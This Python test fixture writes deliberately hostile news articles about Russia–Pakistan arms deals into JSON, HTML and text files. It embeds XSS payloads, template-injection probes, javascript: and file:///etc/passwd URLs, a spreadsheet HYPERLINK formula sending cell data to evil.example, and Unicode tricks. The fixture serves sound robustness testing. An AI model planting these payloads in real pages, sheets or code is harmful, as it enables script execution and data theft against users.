"""Articles that try to be more than text, as files of several kinds, to be read as any other."""

import json

SCRIPT = "<script>window.hacked = 1; alert(1)</script>"
IMAGE = '<img src="x" onerror="window.hacked = 2; alert(2)">'
CLOSING = (
    "\"'></title></textarea></cite></script><svg onload=alert(3)><iframe srcdoc='<script>parent.hacked=3</script>'>"
)
TEMPLATE = "{{ 7 * 7 }} ${7*7} {% include 'base.html' %} #{7*7} <%= 7*7 %>"
MARKDOWN = (
    '![x](http://evil.example/track.png) [a prize](javascript:alert(4)) <b onclick="alert(5)">**bold** `code` | # head'
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
BIDI = "\u202egnorw si siht\u202c \u2066\u2067isolated\u2069 \u200f\u061cafter"
HIDDEN = "Is\u200bla\u00admabad\ufeff \x07\x1b[31mred\x1b[0m \U000e0041\U000e0042"
HEBREW, ARABIC = "שלום 123", "السلام 456!"
HOMOGLYPH = "Rusѕiа and Pаkistаn"  # with four letters of the Cyrillic alphabet
ZALGO = "H" + "\u0321\u035c\u0489\u034d" * 20 + "e" + "\u0336\u0300\u0301" * 200 + " comes"
TITLE = f"{'title' * 40} " * 5_000
"""A megabyte."""
LONG = "long" * 250_000
"""A million characters without a space."""

SOLD = "Russia sold Pakistan four helicopters on Monday, officials said."
ADDRESSES = ("javascript:alert(6)", "data:text/html,<script>alert(7)</script>", "vbscript:x", "file:///etc/passwd")

# What goes into title, outlet, author and text at once.
TRICKS = {
    "script": SCRIPT, "image": IMAGE, "closing": CLOSING, "template": TEMPLATE, "markdown": MARKDOWN,
    "formula": FORMULA, "bidi": BIDI, "hidden": HIDDEN, "hebrew": HEBREW, "arabic": ARABIC, "homoglyph": HOMOGLYPH,
    "zalgo": ZALGO,
}  # fmt: skip

DEALS = (
    "Russia sold Pakistan {number} helicopters, said {trick}, in March.",
    "Pakistan thanked Russia for “{trick}” on Monday, and Moscow praised Islamabad.",
    "{trick} has brought Pakistan and Russia closer, because both fear {trick}.",
)


def write_articles(folder):
    """Write the hostile articles into a folder, as a feed of JSON lines, pages and plain texts."""
    rows = [
        {
            "title": f"{trick} {name}", "outlet": f"{trick} Daily", "author": f"{trick} Smith",
            "url": ADDRESSES[number % len(ADDRESSES)], "date": f"2016-03-{number + 1:02}",
            "text": "\n\n".join(
                [*(deal.format(trick=trick, number=number + 2) for deal in DEALS), f"“{trick},” officials said."]
            ),
        }
        for number, (name, trick) in enumerate(TRICKS.items())
    ]  # fmt: skip
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    # Half of a pair of surrogates, which no file can hold but an escape can name.
    lines += '{"title": "Half \\ud83d a sign", "text": "Russia sold Pakistan five helicopters \\ude00 in May."}\n'
    (folder / "feed.jsonl").write_text(lines, encoding="utf-8")
    (folder / "page.html").write_text(
        f"<html><head><title>{SCRIPT}</title><meta name=author content='{IMAGE}'></head><body><article>"
        f"<h1>A page {SCRIPT}</h1><p>{SOLD} &lt;script&gt;alert(8)&lt;/script&gt; and <svg onload=alert(9)></p>"
        f"<p onmouseover=alert(10)>Pakistan bought six tanks from Russia in April. {IMAGE}</p></article></body></html>",
        encoding="utf-8",
    )
    (folder / "title.txt").write_text(f"{TITLE}\n\n{SOLD}", encoding="utf-8")
    (folder / "line.txt").write_text(f"Word after word\n\n{SOLD}\n\n{LONG}", encoding="utf-8")
